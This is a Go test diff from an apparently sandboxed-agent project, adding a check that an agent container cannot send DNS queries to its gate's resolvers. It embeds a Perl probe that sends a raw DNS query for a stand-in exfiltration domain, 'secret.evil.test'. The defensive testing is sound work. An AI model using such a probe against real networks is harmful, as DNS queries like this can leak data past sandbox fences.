@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/corral-sandbox/corral/internal/spec"
+	"github.com/corral-sandbox/corral/internal/testenv"
 	"github.com/corral-sandbox/corral/test/lab"
 )
 
@@ -91,6 +92,47 @@ func TestPrisoner(t *testing.T) {
 	}
 }
 
+// ask is a perl program that sends one DNS query for secret.evil.test to
+// ADDRESS PORT by udp or tcp, and says whether anybody answered.
+const ask = `
+use Socket;
+my ($to, $port, $kind) = @ARGV;
+my $q = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01";
+socket(my $s, PF_INET, $kind eq "udp" ? SOCK_DGRAM : SOCK_STREAM, 0) or die;
+connect($s, sockaddr_in($port, inet_aton($to))) or do { print "refused\n"; exit };
+syswrite($s, $kind eq "udp" ? $q : pack("n", length $q) . $q);
+my $r = ""; vec($r, fileno($s), 1) = 1;
+if (select($r, undef, undef, 1) && sysread($s, my $b, 512)) { print "answered\n" } else { print "refused\n" }
+`
+
+// R018: the gate's own right to resolve is not the agent's, who shares its
+// namespace: not a packet leaves for the very resolver that the gate asked.
+func TestTheGatesResolverIsNotTheAgents(t *testing.T) {
+	s := project(t, allowed)
+	s.lab.DNS.Set("api.allowed.test", lab.A("44.10.0.10"))
+	s.lab.DNS.Set("secret.evil.test", lab.A("44.10.0.11"))
+	s.write("ask.pl", ask)
+	end := s.up("echo up; read -r _", "up")
+	defer end()
+	capture := s.lab.Capture(t, bridge)
+	for _, to := range []string{lab.NameServer.String(), lab.Authority.String(), "172.30.0.1"} {
+		for _, kind := range []string{"udp", "tcp"} {
+			if got := docker(t, "exec", s.agent(), "perl", filepath.Join(s.dir, "ask.pl"), to, "53", kind); got != "refused" {
+				t.Errorf("%s %s: %s", kind, to, got)
+			}
+		}
+	}
+	if p := capture.Packets(); len(p) > 0 {
+		t.Errorf("%d packets left, the first %v", len(p), p[0])
+	}
+	// The same program reaches that resolver from a container without a fence.
+	got := docker(t, "run", "--rm", "--network", "corral", "--volume", s.dir+":"+s.dir+":ro", testenv.BaseImage,
+		"perl", filepath.Join(s.dir, "ask.pl"), lab.NameServer.String(), "53", "udp")
+	if got != "answered" {
+		t.Errorf("the control was %s: nothing can be told", got)
+	}
+}
+
 // R006, R017: Docker's own resolver cannot be used in any way, while its
 // rules in the nat table stay as they are.
 func TestDockersResolverIsClosed(t *testing.T) {
@@ -102,16 +144,6 @@ func TestDockersResolverIsClosed(t *testing.T) {
 		t.Errorf("Docker's rules are gone from nat: %s", nat)
 	}
 	capture := s.lab.Capture(t, bridge)
-	ask := `
-use Socket;
-my ($port, $kind) = @ARGV;
-my $q = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01";
-socket(my $s, PF_INET, $kind eq "udp" ? SOCK_DGRAM : SOCK_STREAM, 0) or die;
-connect($s, sockaddr_in($port, inet_aton("127.0.0.11"))) or do { print "refused\n"; exit };
-syswrite($s, $kind eq "udp" ? $q : pack("n", length $q) . $q);
-my $r = ""; vec($r, fileno($s), 1) = 1;
-if (select($r, undef, undef, 1) && sysread($s, my $b, 512)) { print "answered\n" } else { print "refused\n" }
-`
 	s.write("ask.pl", ask)
 	ports := []string{"53"}
 	for _, m := range regexp.MustCompile(`--to-destination 127\.0\.0\.11:(\d+)`).FindAllStringSubmatch(nat, -1) {
@@ -122,7 +154,7 @@ if (select($r, undef, undef, 1) && sysread($s, my $b, 512)) { print "answered\n"
 	}
 	for _, port := range ports {
 		for _, kind := range []string{"udp", "tcp"} {
-			if got := docker(t, "exec", s.agent(), "perl", filepath.Join(s.dir, "ask.pl"), port, kind); got != "refused" {
+			if got := docker(t, "exec", s.agent(), "perl", filepath.Join(s.dir, "ask.pl"), "127.0.0.11", port, kind); got != "refused" {
 				t.Errorf("%s %s: %s", kind, port, got)
 			}
 		}
